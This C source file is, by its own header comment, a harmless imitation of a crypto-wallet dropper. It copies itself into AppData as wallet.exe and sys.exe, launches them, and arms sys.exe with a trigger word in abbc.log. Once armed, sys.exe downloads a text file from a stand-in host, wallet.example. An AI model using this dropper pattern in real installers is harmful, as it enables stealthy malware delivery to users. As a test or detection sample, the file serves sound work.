/* The dropper of a coin wallet, with something harmless for what it did: wallet-setup.exe drops and
 * starts wallet.exe and sys.exe in AppData\Roaming, and writes the word that sys.exe waits for into
 * abbc.log. sys.exe alone does nothing. One source, three roles: the program's own name decides. */
#include <windows.h>

#include <stdio.h>
#include <string.h>
#include <wininet.h>

static void in_roaming(const char *name, char path[MAX_PATH]) {
    char pattern[MAX_PATH];
    snprintf(pattern, sizeof pattern, "%%APPDATA%%\\%s", name);
    ExpandEnvironmentStringsA(pattern, path, MAX_PATH);
}

/* ---- sys.exe ---- */

static int is_told_to_go_on(void) {
    char path[MAX_PATH], text[256] = {0};
    DWORD n = 0;
    in_roaming("abbc.log", path);
    HANDLE h = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    if (h == INVALID_HANDLE_VALUE) return 0;
    ReadFile(h, text, sizeof text - 1, &n, NULL);
    CloseHandle(h);
    return strstr(text, "123456789") != NULL;
}

static int be_sys(void) {
    char path[MAX_PATH], page[512];
    DWORD n = 0, written;
    if (!is_told_to_go_on()) return 0;
    HINTERNET net = InternetOpenA("sys", INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
    HINTERNET url = InternetOpenUrlA(net, "http://wallet.example/update.txt", NULL, 0, 0, 0);
    if (url) InternetReadFile(url, page, sizeof page, &n);
    in_roaming("update.txt", path);
    HANDLE h = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    WriteFile(h, page, n, &written, NULL);
    CloseHandle(h);
    return 0;
}

/* ---- wallet-setup.exe ---- */

static void drop_and_start(const char *name) {
    char own[MAX_PATH], path[MAX_PATH];
    STARTUPINFOA start = {.cb = sizeof start};
    PROCESS_INFORMATION process;
    GetModuleFileNameA(NULL, own, sizeof own);
    in_roaming(name, path);
    CopyFileA(own, path, FALSE);
    if (!CreateProcessA(path, NULL, NULL, NULL, FALSE, 0, NULL, NULL, &start, &process)) return;
    CloseHandle(process.hThread);
    CloseHandle(process.hProcess);
}

static int be_setup(void) {
    char path[MAX_PATH];
    DWORD written;
    in_roaming("abbc.log", path);
    HANDLE h = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    WriteFile(h, "123456789", 9, &written, NULL);
    CloseHandle(h);
    drop_and_start("wallet.exe");
    drop_and_start("sys.exe");
    return 0;
}

int main(void) {
    char own[MAX_PATH];
    GetModuleFileNameA(NULL, own, sizeof own);
    const char *name = strrchr(own, '\\');
    name = name ? name + 1 : own;
    if (_stricmp(name, "sys.exe") == 0) return be_sys();
    if (_stricmp(name, "wallet.exe") == 0) return puts("balance: 0.00"), 0;
    return be_setup();
}
